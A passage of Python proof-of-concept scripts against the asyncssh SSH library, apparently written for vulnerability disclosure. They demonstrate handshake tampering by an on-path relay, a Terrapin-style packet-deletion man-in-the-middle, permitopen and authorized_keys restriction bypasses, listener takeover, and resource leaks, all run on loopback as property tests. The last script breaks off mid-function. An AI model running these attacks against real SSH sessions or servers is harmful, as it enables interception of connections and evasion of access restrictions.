(different bytes, different lengths) and neither side notices: the edit is
not covered by the exchange hash / host key signature.

An on-path relay inserts three zero bytes in front of every mpint in
  - KEXDH_INIT (e) and KEXDH_REPLY (f)      diffie-hellman-group14-sha256
  - KEX_DH_GEX_GROUP (p, g), GEX_INIT (e), GEX_REPLY (f)
                                             diffie-hellman-group-exchange-sha256
and, as a control, in front of the server's ephemeral value Q_S for
ecdh-sha2-nistp256 (there the handshake has to fail, and does).

Expected by the property: every edited handshake fails.  Exit 1 if an edited
handshake completes, 0 otherwise.
"""

import asyncio
import os
import struct
import sys
import warnings

import asyncssh

warnings.simplefilter('ignore')

HOST = '127.0.0.1'
TIMEOUT = 15
PAD = b'\0\0\0'


def get_string(data, pos):
    slen = struct.unpack('>I', data[pos:pos+4])[0]
    return data[pos+4:pos+4+slen], pos + 4 + slen


def string(data):
    return struct.pack('>I', len(data)) + data


def widen(data):
    """Re-encode an mpint (or string) with three extra leading zero bytes"""

    return string(PAD + data)


def edit_dh(direction, payload):
    """KEXDH_INIT (30): mpint e;  KEXDH_REPLY (31): string K_S, mpint f, sig"""

    if direction == 'c2s' and payload[0] == 30:
        e, _ = get_string(payload, 1)
        return payload[:1] + widen(e)
    elif direction == 's2c' and payload[0] == 31:
        k_s, pos = get_string(payload, 1)
        f, pos = get_string(payload, pos)
        return payload[:1] + string(k_s) + widen(f) + payload[pos:]
    else:
        return None


def edit_gex(direction, payload):
    """GROUP (31): mpint p, g;  INIT (32): mpint e;  REPLY (33) like above"""

    if direction == 's2c' and payload[0] == 31:
        p, pos = get_string(payload, 1)
        g, pos = get_string(payload, pos)
        return payload[:1] + widen(p) + widen(g)
    elif direction == 'c2s' and payload[0] == 32:
        e, _ = get_string(payload, 1)
        return payload[:1] + widen(e)
    elif direction == 's2c' and payload[0] == 33:
        k_s, pos = get_string(payload, 1)
        f, pos = get_string(payload, pos)
        return payload[:1] + string(k_s) + widen(f) + payload[pos:]
    else:
        return None


def edit_ecdh(direction, payload):
    """KEX_ECDH_REPLY (31): string K_S, string Q_S, sig (control case)"""

    if direction == 's2c' and payload[0] == 31:
        k_s, pos = get_string(payload, 1)
        q_s, pos = get_string(payload, pos)
        return payload[:1] + string(k_s) + widen(q_s) + payload[pos:]
    else:
        return None


class OnPath:
    """Relay which rewrites cleartext handshake packets using edit()"""

    def __init__(self, target_port, edit):
        self.target_port = target_port
        self.edit = edit
        self.edits = []
        self.tasks = []

    async def start(self):
        self.server = await asyncio.start_server(self._accept, HOST, 0)
        return self.server.sockets[0].getsockname()[1]

    def stop(self):
        self.server.close()

        for task in self.tasks:
            task.cancel()

    async def _accept(self, cr, cw):
        sr, sw = await asyncio.open_connection(HOST, self.target_port)
        self.tasks.append(asyncio.ensure_future(self._pump('c2s', cr, sw)))
        self.tasks.append(asyncio.ensure_future(self._pump('s2c', sr, cw)))

    async def _pump(self, direction, reader, writer):
        try:
            writer.write(await reader.readline())

            while True:
                hdr = await reader.readexactly(4)
                body = await reader.readexactly(struct.unpack('>I', hdr)[0])
                payload = body[1:len(body) - body[0]]
                new = self.edit(direction, payload)

                if new is None:
                    writer.write(hdr + body)
                else:
                    self.edits.append('%s msg %d: %d -> %d bytes' %
                                      (direction, payload[0], len(payload),
                                       len(new)))

                    padlen = -(5 + len(new)) % 8

                    if padlen < 4:
                        padlen += 8

                    pkt = bytes([padlen]) + new + os.urandom(padlen)
                    writer.write(struct.pack('>I', len(pkt)) + pkt)

                if payload[0] == 21:
                    break

            while True:
                data = await reader.read(65536)

                if not data:
                    break

                writer.write(data)
        except (asyncio.IncompleteReadError, ConnectionError):
            pass
        finally:
            writer.close()


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def attempt(host_key, kex_alg, edit):
    listener = await asyncssh.listen(HOST, 0, server_factory=Server,
                                     server_host_keys=[host_key],
                                     kex_algs=[kex_alg])
    relay = OnPath(listener.sockets[0].getsockname()[1], edit)
    port = await relay.start()

    try:
        conn = await asyncio.wait_for(asyncssh.connect(
            HOST, port, username='user', client_keys=None,
            known_hosts=([host_key.convert_to_public()], [], []),
            kex_algs=[kex_alg]), TIMEOUT)
    except (asyncssh.Error, OSError, asyncio.TimeoutError) as exc:
        completed, detail = False, repr(exc)
    else:
        # the connection is fully usable: run a request over it
        completed, detail = True, 'connected and authenticated'
        conn.close()
        await asyncio.wait_for(conn.wait_closed(), TIMEOUT)

    relay.stop()
    listener.close()

    print(kex_alg)

    for line in relay.edits:
        print('   edited in transit:', line)

    print('   handshake completed:', completed, '-', detail)

    return completed, bool(relay.edits)


async def main():
    host_key = asyncssh.generate_private_key('ssh-ed25519')

    ctl_done, ctl_edited = await attempt(host_key, 'ecdh-sha2-nistp256',
                                         edit_ecdh)
    dh_done, dh_edited = await attempt(host_key,
                                       'diffie-hellman-group14-sha256',
                                       edit_dh)
    gex_done, gex_edited = await attempt(
        host_key, 'diffie-hellman-group-exchange-sha256', edit_gex)

    if not (ctl_edited and dh_edited and gex_edited):
        print('FAIL: relay did not get to edit the handshake')
        return 2

    if ctl_done:
        print('VIOLATION: edited ECDH handshake completed')

    if dh_done:
        print('VIOLATION: KEXDH_INIT and KEXDH_REPLY were altered in transit '
              '(e and f re-encoded), the handshake completed anyway')

    if gex_done:
        print('VIOLATION: KEX_DH_GEX_GROUP/INIT/REPLY were altered in transit '
              '(p, g, e and f re-encoded), the handshake completed anyway')

    if ctl_done or dh_done or gex_done:
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        sys.exit(asyncio.run(asyncio.wait_for(main(), 90)))
    except asyncio.TimeoutError:
        print('FAIL: timed out')
        sys.exit(2)
