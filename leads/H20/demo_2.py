#!/usr/bin/env python
"""C20 demo 2: several listen requests for one UNIX path.

A streamlocal-forward@openssh.com request for a path which already has a
live listener is accepted: the socket file of the existing listener is
unlinked and re-bound, and SSHConnection._local_listeners[path] is simply
overwritten. Consequences shown here:

  1. a second connection takes over the path of a listener owned by the
     first connection (whose listener is still "open" but unreachable), so
     clients of that path are silently relayed to somebody else's
     destination;
  2. when the same connection asks twice, the first listener is forgotten
     and is still listening after the SSH connection has ended (leaked
     listening socket / asyncio server per request).

Expected (property): a listener is served only where permitted -- an
address already in use isn't available -- and all listeners are released
when their connection ends.

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import asyncio
import os
import sys
import shutil
import tempfile

import asyncssh

_TMPDIRS = []
TIMEOUT = 30


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False

    def unix_server_requested(self, listen_path):
        return True


def listening_sockets(path):
    """Count listening UNIX sockets bound to path (Linux /proc/net/unix)"""

    count = 0

    with open('/proc/net/unix') as f:
        for line in f:
            fields = line.split()

            # Num RefCount Protocol Flags Type St Inode Path
            if len(fields) >= 8 and fields[7] == path and \
                    int(fields[3], 16) & 0x10000:
                count += 1

    return count


async def read_via(path):
    try:
        reader, writer = await asyncio.open_unix_connection(path)
        data = await asyncio.wait_for(reader.read(), 5)
        writer.close()
        return data
    except (OSError, asyncio.TimeoutError) as exc:
        return repr(exc)


async def main():
    tmp = tempfile.mkdtemp(prefix='demo2_', dir=os.path.dirname(
        os.path.abspath(__file__)))
    _TMPDIRS.append(tmp)

    def dest(tag):
        async def handler(_reader, writer):
            writer.write(tag)
            writer.close()

        return handler

    dest_a = os.path.join(tmp, 'dest_a.sock')
    dest_b = os.path.join(tmp, 'dest_b.sock')
    await asyncio.start_unix_server(dest(b'destination of A'), dest_a)
    await asyncio.start_unix_server(dest(b'destination of B'), dest_b)

    host_key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[host_key])
    port = server.sockets[0].getsockname()[1]

    async def connect():
        return await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                      username='user', client_keys=None)

    failures = []

    # ---- Part 1: another connection asks for a path that is in use
    path1 = os.path.join(tmp, 'shared.sock')

    conn_a = await connect()
    conn_b = await connect()

    await conn_a.forward_remote_path(path1, dest_a)
    print('A listens on %s: clients get %r' % (path1, await read_via(path1)))

    try:
        await conn_b.forward_remote_path(path1, dest_b)
        got = await read_via(path1)
        print('B asked for the same path while A holds it: GRANTED; '
              'clients of the path now get %r' % got)
        failures.append("listen request for a path in use was served and "
                        "took over A's listener (clients now reach %r)" % got)
    except asyncssh.ChannelListenError:
        print('B asked for the same path while A holds it: refused')

    conn_a.close()
    conn_b.close()
    await conn_a.wait_closed()
    await conn_b.wait_closed()

    # ---- Part 2: one connection asks twice; is everything released?
    path2 = os.path.join(tmp, 'twice.sock')

    conn_c = await connect()
    await conn_c.forward_remote_path(path2, dest_a)

    try:
        await conn_c.forward_remote_path(path2, dest_a)
        print('C asked twice for %s: second request GRANTED, %d listening '
              'sockets now bound to it' % (path2, listening_sockets(path2)))
    except asyncssh.ChannelListenError:
        print('C asked twice for %s: second request refused' % path2)

    conn_c.close()
    await conn_c.wait_closed()
    await asyncio.sleep(0.5)

    server.close()
    await server.wait_closed()
    await asyncio.sleep(0.5)

    left = listening_sockets(path2)
    print('after connection C and the SSH server are closed: %d listening '
          'socket(s) still bound to %s' % (left, path2))

    if left:
        failures.append('%d listener(s) on %s survived the end of the SSH '
                        'connection that created them' % (left, path2))

    if failures:
        print('VIOLATION: ' + '; '.join(failures))
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        rc = asyncio.run(asyncio.wait_for(main(), TIMEOUT))
    except asyncio.TimeoutError:
        print('VIOLATION: timed out (hang)')
        rc = 2

    for _tmp in _TMPDIRS:
        shutil.rmtree(_tmp, ignore_errors=True)

    sys.stdout.flush()
    os._exit(rc)
