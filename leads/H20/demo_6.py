#!/usr/bin/env python
"""C20 demo 6: a forwarded connection which is reported right after the
remote listener was granted is refused by the client ("No such listener").

SSHClientConnection.create_server() registers the new listener in
self._remote_listeners only after `await self._make_global_request(...)`
has returned, i.e. one event loop iteration after the REQUEST_SUCCESS packet
was processed. A forwarded-tcpip CHANNEL_OPEN that is read from the socket
together with the REQUEST_SUCCESS is processed in the same data_received()
call, before the task is resumed, finds no listener and is rejected -- the
person who connected to the freshly opened remote port is disconnected
although the forwarding was set up successfully.

Here the server application grants the listener itself and reports an
incoming connection at once (what any SSH server does when a connection is
already waiting on the port), using only public server-side API.

Expected (property): once the listen request has been granted, a connection
arriving on the listener is relayed to the destination; data sent into it
comes out of the other end.

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import asyncio
import os
import sys

import asyncssh

TIMEOUT = 30
LISTEN_PORT = 7777          # never bound: the server app "listens" itself


async def report_connection(conn, listen_host, listen_port):
    """Tell the client about a connection on its remote listener and push
       four bytes through it, using the public server-side API"""

    try:
        reader, writer = await conn.open_connection(listen_host, listen_port,
                                                    '127.0.0.1', 4321)

        writer.write(b'ping')
        data = await asyncio.wait_for(reader.readexactly(4), 5)
        writer.close()

        return 'relayed, destination answered %r' % data
    except asyncssh.ChannelOpenError as exc:
        return 'REFUSED by client: %s' % exc.reason
    except Exception as exc: # pylint: disable=broad-except
        return 'FAILED: %r' % exc


class Server(asyncssh.SSHServer):
    """A server which handles listen requests itself"""

    conn = None
    first = None

    def connection_made(self, conn):
        Server.conn = conn

    def begin_auth(self, username):
        return False

    def server_requested(self, listen_host, listen_port):
        # Grant the listener, and report a first connection at once
        Server.first = asyncio.ensure_future(
            report_connection(Server.conn, listen_host, listen_port))

        return asyncssh.SSHListener()


async def main():
    async def echo(reader, writer):
        writer.write(await reader.read(4))
        writer.close()

    dest = await asyncio.start_server(echo, '127.0.0.1', 0)
    dest_port = dest.sockets[0].getsockname()[1]

    host_key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[host_key])
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user', client_keys=None)

    listener = await conn.forward_remote_port('localhost', LISTEN_PORT,
                                              '127.0.0.1', dest_port)
    print('client: remote listener granted on port', listener.get_port())

    result = await asyncio.wait_for(Server.first, 10)
    print('server: connection arriving right after the grant was', result)

    # For comparison: the same thing a moment later
    later = await report_connection(Server.conn, 'localhost', LISTEN_PORT)
    print('server: connection arriving a moment later was', later)

    conn.close()
    server.close()

    if not result.startswith('relayed'):
        print('VIOLATION: a connection on a granted remote listener was not '
              'relayed: ' + result)
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        rc = asyncio.run(asyncio.wait_for(main(), TIMEOUT))
    except asyncio.TimeoutError:
        print('VIOLATION: timed out (hang)')
        rc = 2

    sys.stdout.flush()
    os._exit(rc)
