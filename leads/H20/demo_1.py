#!/usr/bin/env python
"""C20 demo 1: a key limited by permitopen can still reach UNIX-domain
destinations that are not in its permitopen list.

The server application is a generic forwarder (it returns True for both
connection_requested and unix_connection_requested) and relies on the
authorized_keys entry  permitopen="127.0.0.1:<allowed port>"  to limit what
this particular key may connect to.

Expected (property): the only destination this credential may reach is
127.0.0.1:<allowed port>; every other destination is refused.
Observed: direct-tcpip to another port is refused (so the restriction is
active), but a direct-streamlocal@openssh.com open to an arbitrary UNIX
socket is served and its data is relayed.

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import asyncio
import os
import sys
import shutil
import tempfile

import asyncssh

_TMPDIRS = []
TIMEOUT = 20


class Server(asyncssh.SSHServer):
    """A server which lets authorized_keys decide what may be forwarded"""

    def begin_auth(self, username):
        return True

    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        return True

    def unix_connection_requested(self, dest_path):
        return True


async def main():
    tmp = tempfile.mkdtemp(prefix='demo1_', dir=os.path.dirname(
        os.path.abspath(__file__)))
    _TMPDIRS.append(tmp)

    async def allowed_dest(_reader, writer):
        writer.write(b'ALLOWED')
        writer.close()

    async def secret_dest(_reader, writer):
        writer.write(b'SECRET')
        writer.close()

    allowed = await asyncio.start_server(allowed_dest, '127.0.0.1', 0)
    allowed_port = allowed.sockets[0].getsockname()[1]

    other = await asyncio.start_server(secret_dest, '127.0.0.1', 0)
    other_port = other.sockets[0].getsockname()[1]

    secret_path = os.path.join(tmp, 'secret.sock')
    await asyncio.start_unix_server(secret_dest, secret_path)

    host_key = asyncssh.generate_private_key('ssh-ed25519')
    client_key = asyncssh.generate_private_key('ssh-ed25519')

    auth_keys = os.path.join(tmp, 'authorized_keys')

    with open(auth_keys, 'w') as f:
        f.write(f'permitopen="127.0.0.1:{allowed_port}" ' +
                client_key.export_public_key().decode())

    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[host_key],
                                   authorized_client_keys=auth_keys)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user', client_keys=[client_key])

    print('key options in force:', f'permitopen="127.0.0.1:{allowed_port}"')

    failures = []

    # Sanity 1: the permitted destination is served
    reader, _ = await conn.open_connection('127.0.0.1', allowed_port)
    data = await reader.read()
    print('direct-tcpip to permitted 127.0.0.1:%d -> %r' %
          (allowed_port, data))

    if data != b'ALLOWED':
        failures.append('permitted destination was not served')

    # Sanity 2: another TCP destination is refused, so permitopen is active
    try:
        reader, _ = await conn.open_connection('127.0.0.1', other_port)
        data = await reader.read()
        print('direct-tcpip to 127.0.0.1:%d (not permitted) -> served %r' %
              (other_port, data))
        failures.append('TCP destination outside permitopen was served')
    except asyncssh.ChannelOpenError as exc:
        print('direct-tcpip to 127.0.0.1:%d (not permitted) -> refused: %s' %
              (other_port, exc.reason))

    # The actual check: a UNIX destination isn't in the permitopen list
    try:
        reader, _ = await conn.open_unix_connection(secret_path)
        data = await reader.read()
        print('direct-streamlocal to %s (not permitted) -> served %r' %
              (secret_path, data))
        failures.append('UNIX destination outside permitopen was served '
                        'and relayed %r' % data)
    except asyncssh.ChannelOpenError as exc:
        print('direct-streamlocal to %s (not permitted) -> refused: %s' %
              (secret_path, exc.reason))

    conn.close()
    server.close()

    if failures:
        print('VIOLATION: ' + '; '.join(failures))
        return 1

    print('OK: only the permitted destination was served')
    return 0


if __name__ == '__main__':
    try:
        rc = asyncio.run(asyncio.wait_for(main(), TIMEOUT))
    except asyncio.TimeoutError:
        print('VIOLATION: timed out (hang)')
        rc = 2

    for _tmp in _TMPDIRS:
        shutil.rmtree(_tmp, ignore_errors=True)

    sys.stdout.flush()
    os._exit(rc)
