#!/usr/bin/env python
"""C20 demo 4: sockets accepted by a dynamic (SOCKS) forwarding listener
which have not finished the SOCKS request yet are never released.

SSHSOCKSForwarder only starts a forwarding task once a complete SOCKS
request has been parsed. Until then the accepted socket is known to nobody:

  a. if the SOCKS client gives up (sends FIN) in the middle of the request,
     eof_received() returns True ("keep the transport open"), nobody will
     ever write to or close the socket, and it stays open for good -- one
     leaked descriptor per aborted handshake (a port probe is enough);
  b. when the SSH connection ends, the listener is closed but these sockets
     are not; the client is left connected to a forwarder whose SSH
     connection no longer exists.

Expected (property): closing either end closes both, and all listeners and
relayed sockets are released when their connection ends.

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import asyncio
import os
import sys

import asyncssh

TIMEOUT = 40
WAIT = 3


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False

    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        return True


def open_fds():
    return len(os.listdir('/proc/self/fd'))


async def closed_by_peer(reader):
    """Return whether the other side closes the connection within WAIT"""

    # Note: asyncio.TimeoutError is a subclass of OSError, so test it first

    try:
        await asyncio.wait_for(reader.read(), WAIT)
        return True
    except asyncio.TimeoutError:
        return False
    except OSError:
        return True


async def main():
    host_key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[host_key])
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user', client_keys=None)

    listener = await conn.forward_socks('127.0.0.1', 0)
    socks_port = listener.get_port()

    failures = []

    # ---- a. the SOCKS client ends its side in the middle of the request
    reader, writer = await asyncio.open_connection('127.0.0.1', socks_port)
    writer.write(b'\x05\x01')            # SOCKS5, one auth method ... and stop
    writer.write_eof()

    if await closed_by_peer(reader):
        print('a. client sent FIN mid-request: forwarder closed its socket')
    else:
        print('a. client sent FIN mid-request: forwarder socket still open '
              'after %ds' % WAIT)
        failures.append('half-finished SOCKS request followed by EOF is '
                        'never closed')

    writer.close()
    await asyncio.sleep(0.3)

    # The same thing seen from inside the process: every aborted handshake
    # costs a descriptor (this process holds both ends, so closing our end
    # must free two descriptors per connection if the forwarder closes too)
    before = open_fds()

    for _ in range(25):
        _, wr = await asyncio.open_connection('127.0.0.1', socks_port)
        wr.write(b'\x04')
        wr.close()

    await asyncio.sleep(1)
    leaked = open_fds() - before
    print('   25 connect/send 1 byte/close cycles: %d descriptors leaked' %
          leaked)

    if leaked > 0:
        failures.append('%d descriptors leaked by aborted SOCKS requests' %
                        leaked)

    # ---- b. the SSH connection ends while a client is mid-request
    reader, writer = await asyncio.open_connection('127.0.0.1', socks_port)
    writer.write(b'\x05\x01')
    await writer.drain()
    await asyncio.sleep(0.2)

    conn.close()
    await conn.wait_closed()
    print('b. SSH connection closed; listener still accepting: %s' %
          (await can_connect(socks_port)))

    if await closed_by_peer(reader):
        print('   socket of the client that was mid-request: closed')
    else:
        print('   socket of the client that was mid-request: still open '
              'after %ds' % WAIT)
        failures.append('socket accepted by the SOCKS listener outlives '
                        'the SSH connection')

    writer.close()

    if failures:
        print('VIOLATION: ' + '; '.join(failures))
        return 1

    print('OK')
    return 0


async def can_connect(port):
    try:
        _, writer = await asyncio.open_connection('127.0.0.1', port)
        writer.close()
        return True
    except OSError:
        return False


if __name__ == '__main__':
    try:
        rc = asyncio.run(asyncio.wait_for(main(), TIMEOUT))
    except asyncio.TimeoutError:
        print('VIOLATION: timed out (hang)')
        rc = 2

    sys.stdout.flush()
    os._exit(rc)
