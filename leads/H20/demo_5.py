#!/usr/bin/env python
"""C20 demo 5: forwarding restrictions in authorized_keys that fail open.

authorized_keys option keywords are case-insensitive (sshd(8): "note that
option keywords are case-insensitive"), and "restrict" turns off port
forwarding among other things. AsyncSSH stores any keyword it doesn't
recognise, spelled exactly as written, as an application-defined option
and then looks up only the exact lower-case names 'no-port-forwarding' and
'permitopen'. A key line such as

    No-Port-Forwarding ssh-ed25519 AAAA...
    PermitOpen="127.0.0.1:1" ssh-ed25519 AAAA...
    restrict ssh-ed25519 AAAA...

is accepted without complaint and the key gets unrestricted forwarding.

Expected (property): a forwarding or listen request is served only if the
authenticated credential's restrictions permit it.

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import asyncio
import os
import sys
import shutil
import tempfile

import asyncssh

_TMPDIRS = []
TIMEOUT = 40


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return True

    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        return True

    def server_requested(self, listen_host, listen_port):
        return True


async def main():
    tmp = tempfile.mkdtemp(prefix='demo5_', dir=os.path.dirname(
        os.path.abspath(__file__)))
    _TMPDIRS.append(tmp)

    async def dest(_reader, writer):
        writer.write(b'SECRET')
        writer.close()

    dest_server = await asyncio.start_server(dest, '127.0.0.1', 0)
    dest_port = dest_server.sockets[0].getsockname()[1]

    host_key = asyncssh.generate_private_key('ssh-ed25519')
    client_key = asyncssh.generate_private_key('ssh-ed25519')
    public = client_key.export_public_key().decode()

    async def trial(options):
        """Return what a key with these options was allowed to do"""

        auth_keys = os.path.join(tmp, 'authorized_keys')

        with open(auth_keys, 'w') as f:
            f.write(options + ' ' + public)

        server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                       server_host_keys=[host_key],
                                       authorized_client_keys=auth_keys)
        port = server.sockets[0].getsockname()[1]

        conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                      username='user',
                                      client_keys=[client_key])

        served = []

        try:
            reader, _ = await conn.open_connection('127.0.0.1', dest_port)
            served.append('direct-tcpip relayed %r' % await reader.read())
        except asyncssh.ChannelOpenError:
            pass

        try:
            listener = await conn.forward_remote_port('127.0.0.1', 0,
                                                      '127.0.0.1', dest_port)
            served.append('tcpip-forward granted (port %d)' %
                          listener.get_port())
        except asyncssh.ChannelListenError:
            pass

        conn.close()
        await conn.wait_closed()
        server.close()
        await server.wait_closed()

        return served

    failures = []

    # (options, may open dest, may listen)
    for options in ('no-port-forwarding',           # control: must be denied
                    'No-Port-Forwarding',
                    'NO-PORT-FORWARDING',
                    'PermitOpen="127.0.0.1:1"',
                    'restrict'):
        served = await trial(options)

        if options.startswith('PermitOpen'):
            # permitopen limits connects only; listening isn't affected
            served = [item for item in served if 'direct' in item]

        print('%-28s -> %s' % (options, '; '.join(served) or 'all refused'))

        if served:
            failures.append(options)

    if failures:
        print('VIOLATION: forwarding was served to keys restricted by: ' +
              ', '.join(failures))
        return 1

    print('OK')
    return 0


if __name__ == '__main__':
    try:
        rc = asyncio.run(asyncio.wait_for(main(), TIMEOUT))
    except asyncio.TimeoutError:
        print('VIOLATION: timed out (hang)')
        rc = 2

    for _tmp in _TMPDIRS:
        shutil.rmtree(_tmp, ignore_errors=True)

    sys.stdout.flush()
    os._exit(rc)
