#!/usr/bin/env python
"""C20 demo 3: closing a remote listener twice tears down the whole SSH
connection and every connection being relayed over it.

SSHClientListener.close() starts a new _close() task -- and so sends a new
cancel-tcpip-forward (or cancel-streamlocal-forward) global request -- every
time it is called until the first reply has come back. The natural pattern

    async with conn.forward_remote_port(...) as listener:
        ...
        listener.close()          # __aexit__ calls close() once more

therefore sends the cancel request twice. The server has already removed
the listener when the second request arrives, treats that as a protocol
error and disconnects, which cuts every unrelated forwarded connection.

Expected (property / documentation of SSHListener.close: "Existing
connections will remain open"): closing a listener stops that listener
only; data on other forwarded connections keeps flowing.

Exit status 0 = behaves as the property says, 1 = violation shown.
"""

import asyncio
import os
import sys

import asyncssh

TIMEOUT = 30


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False

    def connection_requested(self, dest_host, dest_port, orig_host, orig_port):
        return True

    def server_requested(self, listen_host, listen_port):
        return True


async def main():
    async def echo(reader, writer):
        while True:
            data = await reader.read(4096)

            if not data:
                break

            writer.write(data)

        writer.close()

    dest = await asyncio.start_server(echo, '127.0.0.1', 0)
    dest_port = dest.sockets[0].getsockname()[1]

    host_key = asyncssh.generate_private_key('ssh-ed25519')
    server = await asyncssh.listen('127.0.0.1', 0, server_factory=Server,
                                   server_host_keys=[host_key])
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user', client_keys=None)

    # An unrelated, long-lived forwarded connection
    local = await conn.forward_local_port('127.0.0.1', 0,
                                          '127.0.0.1', dest_port)
    reader, writer = await asyncio.open_connection('127.0.0.1',
                                                   local.get_port())

    writer.write(b'before')
    print('relayed connection before:', await reader.readexactly(6))

    # Open a remote listener and close it explicitly inside the with block
    async with conn.forward_remote_port('127.0.0.1', 0,
                                        '127.0.0.1', dest_port) as listener:
        print('remote listener on port', listener.get_port())
        listener.close()

    print('remote listener closed (close() called twice)')

    await asyncio.sleep(0.5)

    failures = []

    try:
        writer.write(b'after!')
        data = await asyncio.wait_for(reader.readexactly(6), 5)
        print('relayed connection after: ', data)
    except (asyncio.IncompleteReadError, OSError, asyncio.TimeoutError) as exc:
        print('relayed connection after:  BROKEN (%r)' % exc)
        failures.append('an unrelated forwarded connection was cut')

    if conn.is_closed():
        failures.append('the SSH connection itself was closed')

        try:
            await conn.wait_closed()
            await conn.open_connection('127.0.0.1', dest_port)
        except Exception as exc: # pylint: disable=broad-except
            print('SSH connection state:', repr(exc))

    if failures:
        print('VIOLATION: closing one listener: ' + ' and '.join(failures))
        return 1

    print('OK: other forwarded connections survived the listener close')
    return 0


if __name__ == '__main__':
    try:
        rc = asyncio.run(asyncio.wait_for(main(), TIMEOUT))
    except asyncio.TimeoutError:
        print('VIOLATION: timed out (hang)')
        rc = 2

    sys.stdout.flush()
    os._exit(rc)
