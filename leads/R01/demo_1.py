"""demo_1: an encrypted packet can be REMOVED from the stream without the
receiver noticing (prefix truncation / "Terrapin"), when the peer does not
implement strict key exchange.

Target under test : an unmodified asyncssh CLIENT with default algorithms.
Peer              : an SSH server which does not know about
                    kex-strict-*-v00@openssh.com (every OpenSSH < 9.6, old
                    dropbear, libssh ...).  It is emulated here by an asyncssh
                    server whose strict-kex support is switched off at run
                    time (nothing in the asyncssh sources is changed and the
                    client side is untouched).
Attacker          : a TCP man in the middle on loopback.  In the server->client
                    direction it
                      1. inserts one unencrypted SSH_MSG_IGNORE in front of
                         the server's SSH_MSG_NEWKEYS  (keys not yet in effect,
                         this only bumps the client's receive sequence number)
                      2. deletes the FIRST ENCRYPTED packet of the server
                         (SSH_MSG_EXT_INFO) from the encrypted stream.
                    The attacker does not know any key.  The length of the
                    deleted packet is public knowledge (fixed per server
                    version); the demo takes it from the server's write log.

Expected by the property: the removal of an encrypted packet is detected by
the client (MAC / protocol error).  Exit status 0 if that happens (or if the
client refuses to negotiate a cipher for which it cannot be detected).

Observed: chacha20-poly1305@openssh.com is negotiated, the packet is removed,
all later packets verify, the session works, nobody notices -> exit 1.
"""

import asyncio
import sys

import asyncssh
from asyncssh.connection import SSHConnection, SSHServerConnection

TIMEOUT = 10


# ---------------------------------------------------------------- legacy peer
# Emulate a server which predates strict KEX: it does not advertise it and
# does not act on the client's advertisement.

SSHServerConnection._get_extra_kex_algs = lambda self: [b'ext-info-s']
SSHServerConnection._strict_kex = property(lambda self: False,
                                           lambda self, value: None)

ENC_WRITES = []     # sizes of the encrypted packets written by the server

_orig_send = SSHConnection._send


def _logging_send(self, data):
    if self.is_server() and self._send_encryption:
        ENC_WRITES.append(len(data))
    _orig_send(self, data)


SSHConnection._send = _logging_send


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False            # no authentication needed

    def session_requested(self):
        return EchoSession()


class EchoSession(asyncssh.SSHServerSession):
    def connection_made(self, chan):
        self._chan = chan

    def shell_requested(self):
        return True

    def data_received(self, data, datatype):
        self._chan.write(data.upper())


# ------------------------------------------------------------------ attacker

def plain_packet(payload):
    padlen = -(5 + len(payload)) % 8
    if padlen < 4:
        padlen += 8
    body = bytes([padlen]) + payload + bytes(padlen)
    return len(body).to_bytes(4, 'big') + body


class Mitm:
    def __init__(self, server_port, attack):
        self.server_port = server_port
        self.attack = attack
        self.injected = False
        self.dropped = 0

    async def handle(self, creader, cwriter):
        sreader, swriter = await asyncio.open_connection('127.0.0.1',
                                                         self.server_port)
        t1 = asyncio.ensure_future(self.relay(creader, swriter))
        t2 = asyncio.ensure_future(self.s2c(sreader, cwriter))
        await asyncio.wait([t1, t2], return_when=asyncio.FIRST_COMPLETED)
        for w in (cwriter, swriter):
            w.close()

    async def relay(self, reader, writer):
        try:
            while True:
                data = await reader.read(65536)
                if not data:
                    break
                writer.write(data)
        except (ConnectionError, asyncio.CancelledError):
            pass

    async def s2c(self, reader, writer):
        try:
            if not self.attack:
                await self.relay(reader, writer)
                return

            # version line
            writer.write(await reader.readuntil(b'\n'))

            # plaintext packets up to and including NEWKEYS
            while True:
                hdr = await reader.readexactly(4)
                body = await reader.readexactly(int.from_bytes(hdr, 'big'))
                pkttype = body[1]

                if pkttype == 21:                       # SSH_MSG_NEWKEYS
                    # 1. extra unencrypted IGNORE in front of NEWKEYS
                    writer.write(plain_packet(b'\x02' + bytes(4)))
                    self.injected = True
                    writer.write(hdr + body)
                    break

                writer.write(hdr + body)

            # 2. delete the first encrypted packet
            while not ENC_WRITES:
                await asyncio.sleep(0.01)

            victim = await reader.readexactly(ENC_WRITES[0])
            self.dropped = len(victim)

            await self.relay(reader, writer)
